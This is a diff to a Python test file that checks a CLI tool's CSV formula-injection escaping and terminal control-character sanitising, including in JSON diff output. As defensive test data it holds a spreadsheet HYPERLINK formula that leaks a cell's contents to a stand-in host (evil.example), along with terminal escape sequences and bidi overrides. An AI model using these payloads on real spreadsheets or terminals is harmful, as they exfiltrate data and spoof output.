@@ -27,7 +27,7 @@ from tests.builders import SOURCE_A, base_inputs, write_project
 from tests.conftest import AS_OF
 from thesis.cli import cli
 from thesis.outputs.export import csv_safe
-from thesis.terminal import printable
+from thesis.terminal import CONTROL, printable
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HOSTILE_TITLES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\tindented", "=1+1"]
@@ -91,7 +91,14 @@ def test_csv_safe_prefixes_exactly_the_formula_starts(text: str) -> None:
 
 
 def test_printable_shows_control_and_bidi_characters_and_keeps_lines() -> None:
-    assert printable("a\x1b]0;pwned\x07b\nc\td\u202ee\x9b") == "a\\x1b]0;pwned\\x07b\nc\td\\u202ee\\x9b"
+    assert printable("a\x1b]0;pwned\x07b\nc\td\u202ee\x9b") == "a\\x1b]0;pwned\\x07b\nc\td\\u202ee\\u009b"
+
+
+def test_printable_json_is_the_same_json() -> None:
+    text = json.dumps({"title": "x\u202e\x9b\x7f\x1b"}, ensure_ascii=False)
+    assert "\u202e" in text  # raw: json.dumps with ensure_ascii=False leaves bidi and C1 controls as they are
+    assert json.loads(printable(text)) == json.loads(text)
+    assert not CONTROL.search(printable(text))
 
 
 def test_check_shows_a_source_text_escape_sequence_as_text(tmp_path: Path) -> None:
@@ -125,6 +132,7 @@ def test_diff_and_list_show_escape_sequences_from_files_as_text(tmp_path: Path) 
         (tmp_path / "b.json").write_text(json.dumps(changed), encoding="utf-8")
         path.write_text(json.dumps(changed), encoding="utf-8")
         diffed = CliRunner().invoke(cli, ["diff", "a.json", "b.json", "--color"])
+        as_json = CliRunner().invoke(cli, ["diff", "a.json", "b.json", "--format", "json"])
         listed = CliRunner().invoke(cli, ["list"])
     finally:
         os.chdir(old)
@@ -132,5 +140,8 @@ def test_diff_and_list_show_escape_sequences_from_files_as_text(tmp_path: Path) 
     assert "\\x1b]0;pwned\\x07" in diffed.output and "\\u202e" in diffed.output
     assert "\x07" not in diffed.output and "\u202e" not in diffed.output and "\x1b[2J" not in diffed.output
     assert "\x1b[3" in diffed.output  # its own colours are still there
+    assert as_json.exit_code == 1 and "\u202e" not in as_json.output and "\x1b" not in as_json.output
+    parsed = json.dumps(json.loads(as_json.output), ensure_ascii=False)  # the data itself is unchanged
+    assert "\u202e" in parsed and "\x1b]0;pwned\x07" in parsed
     assert listed.exit_code == 0, listed.output
     assert "Buy\\x1b[2J" in listed.output and "\x1b" not in listed.output
